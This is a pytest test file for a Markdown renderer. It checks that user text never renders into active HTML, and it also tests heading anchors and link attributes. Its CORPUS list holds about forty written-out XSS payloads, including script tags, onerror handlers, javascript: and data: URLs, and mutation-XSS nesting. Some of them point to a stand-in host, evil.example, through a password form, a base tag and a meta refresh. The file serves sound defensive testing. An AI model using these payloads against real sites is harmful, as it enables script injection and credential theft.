"""People's Markdown: what it may become, and what it may never become."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reasonaudit.lib import markdown
from reasonaudit.lib.markdown import render

# Ways in which markup was brought past other renderers; each is typed into a guideline as it stands.
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import'//evil.example'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](https://evil.example/a.png)",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</script>",
    "\x00<script>alert(1)</script>",
]


class Seen(HTMLParser):
    """The tags, attributes and addresses that a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name in {"href", "src", "action"}:
                self.addresses.append(value or "")


def seen(text: str) -> Seen:
    parser = Seen()
    parser.feed(render(text))
    parser.close()
    return parser


def assert_harmless(text: str) -> None:
    found = seen(text)
    assert found.tags <= markdown.TAGS
    allowed = {("a", "href"), ("a", "title"), ("a", "target"), ("a", "rel"), ("ol", "start")}
    allowed |= {(f"h{level}", "id") for level in range(2, 7)}
    assert found.attributes <= allowed
    for address in found.addresses:
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address.lower())
        assert scheme is None or scheme.group(1) in {"http", "https", "mailto"}, address


@pytest.mark.parametrize("text", CORPUS)
def test_ih_12_no_text_becomes_active(text):
    assert_harmless(text)
    assert_harmless(f"Before\n\n{text}\n\nafter *{text}*")


@given(st.text("<>\"'&[]()!#*`|:/\\= \n\tabconerrorjsip", max_size=60))
@settings(max_examples=300, deadline=None)
def test_ih_12_no_mixture_of_signs_becomes_active(text):
    assert_harmless(text)


def test_headings_start_below_the_page_and_have_unlike_anchors():
    text = "# Labels\n\n## Uncertain\n\n## Uncertain\n\n## Uncertain 2\n\n###### Deep"
    assert markdown.headings(text) == [
        ("clause-labels", "Labels"),
        ("clause-uncertain", "Uncertain"),
        ("clause-uncertain-2", "Uncertain"),
        ("clause-uncertain-2-2", "Uncertain 2"),
        ("clause-deep", "Deep"),
    ]
    assert seen(text).tags == {"h2", "h3", "h6"}


def test_links_lead_to_clauses_and_others_open_apart():
    html = render("[there](#Uncertain) and [out](https://example.org/x)")
    assert '<a href="#clause-uncertain" rel="noopener noreferrer">there</a>' in html
    assert '<a href="https://example.org/x" target="_blank" rel="noopener noreferrer">out</a>' in html


def test_common_markdown_is_kept():
    html = render("Text *soft* **loud** `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> said")
    for piece in (
        "<em>soft</em>",
        "<strong>loud</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
        "<blockquote>",
    ):
        assert piece in html
    assert "<p>1 &lt; 2 &amp; 3</p>" in render("1 < 2 & 3")
